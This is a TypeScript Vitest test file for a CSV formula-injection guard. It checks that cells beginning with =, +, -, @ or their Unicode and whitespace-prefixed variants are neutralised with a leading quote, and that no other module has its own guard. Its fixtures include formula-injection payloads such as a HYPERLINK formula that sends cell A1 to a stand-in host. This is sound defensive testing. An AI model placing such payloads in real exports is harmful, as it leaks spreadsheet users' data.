// The one CSV guard (shared/domain/csv.ts): every form of a formula start a spreadsheet accepts is
// neutralised, nothing else is touched, and no other module of the product carries a guard of its own.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { beginsLikeFormula, csvCell, neutralizeFormula } from '../../shared/domain/csv.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

describe('the CSV guard', () => {
  it('catches leading spaces, no-break and ideographic spaces, full-width signs, and a leading tab, CR or LF', () => {
    const hostile = [
      '=1+1',
      '+SUM(A1)',
      '-2+3',
      '@cmd',
      ' =HYPERLINK("http://x.example/?"&A1,"Click")',
      '   +1',
      '\u00a0=1',
      '\u00a0\u00a0@x',
      '\u3000=1',
      '\u2007-1',
      '\ufeff=1',
      '\uff1d1',
      '\uff0b1',
      '\uff0d1',
      '\uff20x',
      ' \uff1d1',
      '\t=1',
      '\tx',
      '\rx',
      '\nx',
      '\r\n=1',
    ];
    for (const bad of hostile) {
      expect(beginsLikeFormula(bad), JSON.stringify(bad)).toBe(true);
      expect(neutralizeFormula(bad)).toBe(`'${bad}`);
    }
    for (const good of [
      'Jane Smith',
      "O'Brien",
      '1200 Ventura Blvd',
      'a=b',
      'x-y',
      '1234 5678 9012 3456',
      '',
    ]) {
      expect(beginsLikeFormula(good), good).toBe(false);
      expect(neutralizeFormula(good)).toBe(good);
    }
  });

  it('quotes what needs it (or everything), doubles quotes, and writes numbers and booleans plainly', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('plain', { quoteAll: true })).toBe('"plain"');
    expect(csvCell(' =1,2')).toBe(`"' =1,2"`);
    expect(csvCell('\n=1')).toBe(`"'\n=1"`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(true)).toBe('yes');
  });

  it('is the only guard: no other module of the product tests for a formula start itself', () => {
    const sources: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (path.endsWith('.ts')) sources.push(path);
      }
    };
    for (const dir of ['shared', 'cli', 'functions']) walk(join(ROOT, dir));
    const guards = sources.filter((f) => {
      if (f.endsWith(join('shared', 'domain', 'csv.ts'))) return false;
      const text = readFileSync(f, 'utf8');
      return /\[[^\]]*=\+\\?-@|\\uff1d/.test(text);
    });
    expect(guards).toEqual([]);
    expect(sources.length).toBeGreaterThan(50);
  });
});
